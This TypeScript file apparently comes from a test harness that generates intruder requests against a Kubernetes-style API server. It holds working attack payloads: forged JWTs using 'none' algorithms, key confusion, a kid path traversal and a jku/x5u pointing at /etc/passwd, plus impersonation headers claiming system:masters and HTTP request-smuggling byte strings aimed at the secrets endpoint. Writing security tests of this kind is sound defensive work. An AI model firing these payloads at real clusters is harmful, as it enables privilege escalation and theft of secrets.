/**
 * Generates the requests of an intruder: forged tokens, headers that claim an identity, and requests that may be parsed
 * in two ways.
 */
import { createHmac, generateKeyPairSync, sign as signBytes } from "node:crypto";
import { pickOne } from "../parity-server/audit-cases.ts";
import type { Random } from "../parity-server/random.ts";

export interface AdmissionAttributes {
  readonly method: string;
  readonly path: string;
  /** Names and values; names may repeat. */
  readonly headers: readonly (readonly [string, string])[];
  readonly body: string;
}

/** Credentials and keys that an intruder may know. */
export interface Loot {
  /** Signed with a valid key, but with claims that the server refuses: expired, or for other audiences. */
  readonly spent: readonly string[];
  /** Valid tokens, which the intruder sends only in altered form. */
  readonly good: readonly string[];
  /** Public keys, as PEM and as JSON; anyone can have them. */
  readonly publicKeys: readonly string[];
}

const paths = [
  "/api/v1/secrets",
  "/api/v1/namespaces/kube-system/secrets/s",
  "/apis/rbac.authorization.k8s.io/v1/clusterroles",
];
const writes = ["/apis/authentication.k8s.io/v1/tokenreviews", "/api/v1/namespaces/default/configmaps"];

const encode = (fields: unknown): string => Buffer.from(JSON.stringify(fields)).toString("base64url");
const ownKey = generateKeyPairSync("ec", { namedCurve: "P-256" });
const ownJwk = ownKey.publicKey.export({ format: "jwk" });

function forgedToken(random: Random, { spent, good, publicKeys }: Loot): string {
  const token = pickOne(random, good);
  const [header = "", payload = "", signature = ""] = token.split(".");
  const claims = { ...claimsOf(payload), sub: "system:admin", groups: ["system:masters"] };
  // Leaves the last character of the token: some bits of it are not part of the signature.
  const at = Math.floor(random.next() * (token.length - 3));
  const none = ["none", "None", "", "nOnE"].map((alg) => `${encode({ alg })}.${encode(claims)}.`);
  const secret = pickOne(random, publicKeys);
  const confused = `${encode({ alg: "HS256", typ: "JWT" })}.${encode(claims)}`;
  const ownHeader = pickOne(random, [
    { alg: "ES256", jwk: ownJwk },
    { alg: "ES256", kid: "key-1" },
    { alg: "ES256", kid: "../../dev/null" },
    { alg: "ES256", jku: "https://127.0.0.1:1/keys", x5u: "file:///etc/passwd" },
    { alg: "ES256", crit: ["exp"], kid: null },
  ]);
  const own = `${encode(ownHeader)}.${encode(claims)}`;
  return pickOne(random, [
    pickOne(random, spent),
    pickOne(random, none),
    `${confused}.${createHmac("sha256", secret).update(confused).digest("base64url")}`,
    `${own}.${signBytes("sha256", Buffer.from(own), { key: ownKey.privateKey, dsaEncoding: "ieee-p1363" }).toString("base64url")}`,
    `${header}.${encode(claims)}.${signature}`,
    `${header}.${payload}.`,
    `${header}.${payload}.${Buffer.alloc(64).toString("base64url")}`,
    `${token.slice(0, at)}${token[at] === "A" ? "B" : "A"}${token.slice(at + 1, -3)}`,
    `${token}${token}`,
    `${token.slice(0, at)}`,
    `system:masters`,
    "abcdef.0123456789abcdef",
    "A".repeat(1 + Math.floor(random.next() * 9000)),
    pickOne(random, ["..", ".", "a.b.c", "null", "__proto__", "constructor.prototype.x"]),
  ]);
}

function claimsOf(payload: string): object {
  try {
    return JSON.parse(Buffer.from(payload, "base64url").toString());
  } catch {
    return {};
  }
}

const names = [
  "X-Remote-User",
  "x-remote-user",
  "X-REMOTE-GROUP",
  "X-Remote-Uid",
  "X-Remote-Extra-scopes",
  "X-Remote-Extra-__proto__",
  "X_Remote_User",
  "X-Forwarded-User",
  "Impersonate-User",
  "Impersonate-Group",
  "Impersonate-Uid",
  "Impersonate-Extra-a%2",
  "Impersonate-Extra-__proto__",
  "Audit-ID",
  "X-Forwarded-For",
  "X-Original-URL",
  "X-HTTP-Method-Override",
];
const values = [
  "system:admin",
  "admin",
  "system:masters",
  "",
  "system:apiserver",
  "a,b",
  "system:node:n",
  "\u00e4",
  "127.0.0.1",
];

/** Returns a request that any HTTP client can send. */
export function drawRequest(random: Random, loot: Loot): AdmissionAttributes {
  const isWrite = random.next() < 0.5;
  const scheme = pickOne(random, ["Bearer", "bearer", "Bearer ", "BEARER", "Basic", "Token", ""]);
  const tokens = random.next() < 0.7 ? [["authorization", `${scheme} ${forgedToken(random, loot)}`] as const] : [];
  const doubled =
    random.next() < 0.1 ? [...tokens, ["authorization", `Bearer ${forgedToken(random, loot)}`] as const] : tokens;
  const count = Math.floor(random.next() * 4);
  const headerPairs = Array.from({ length: count }, () => [pickOne(random, names), pickOne(random, values)] as const);
  return {
    method: isWrite ? "POST" : pickOne(random, ["GET", "GET", "DELETE", "PATCH", "PUT", "CONNECT", "TRACE"]),
    path:
      pickOne(random, isWrite ? writes : paths) +
      (random.next() < 0.2 ? pickOne(random, ["/", "/../x", "%2f..", "?x=%00", "?watch=1&timeoutSeconds=1"]) : ""),
    headers: [...doubled, ...headerPairs],
    body: isWrite ? JSON.stringify({ metadata: { name: "intruder" } }) : "",
  };
}

/** Returns bytes of HTTP/1.1 that two parsers may read differently. */
export function smuggled(random: Random): string {
  const inner =
    "GET /api/v1/secrets HTTP/1.1\r\nHost: x\r\nX-Remote-User: admin\r\nX-Remote-Group: system:masters\r\n\r\n";
  const head = "POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\n";
  const chunked = `0\r\n\r\n${inner}`;
  return pickOne(random, [
    `${head}Content-Length: ${chunked.length}\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
    `${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5c\r\n${inner}\r\n0\r\n\r\n`,
    `${head}Transfer-Encoding: xchunked\r\n\r\n${chunked}`,
    `${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n${chunked}`,
    `${head}Transfer-Encoding : chunked\r\n\r\n${chunked}`,
    `${head}Content-Length: 0\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
    `${head}Content-Length: +5\r\n\r\n${inner}`,
    `${head}Content-Length: 0x5\r\n\r\n${inner}`,
    `${head}X-A: b\r\n X-Remote-User: admin\r\n\r\n${inner}`,
    `${head}X-A: b\rX-Remote-User: admin\r\n\r\n`,
    `${head}X-A: b\nX-Remote-User: admin\n\n`,
    `${head}X-Remote-User: ad\0min\r\n\r\n`,
    `GET http://x/api/v1/secrets HTTP/1.1\r\nHost: y\r\nX-Remote-User: admin\r\n\r\n`,
    `GET /api/v1/secrets HTTP/1.1\r\nHost: x\r\nHost: y\r\nConnection: x-remote-user, close\r\nX-Remote-User: admin\r\n\r\n`,
    `GET /api/v1/secrets HTTP/1.0\r\nX-Remote-User: admin\r\n\r\n`,
    `GET /api/v1/secrets\r\n\r\n`,
    `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${inner}`,
    `GET /healthz HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n${inner}`,
  ]);
}
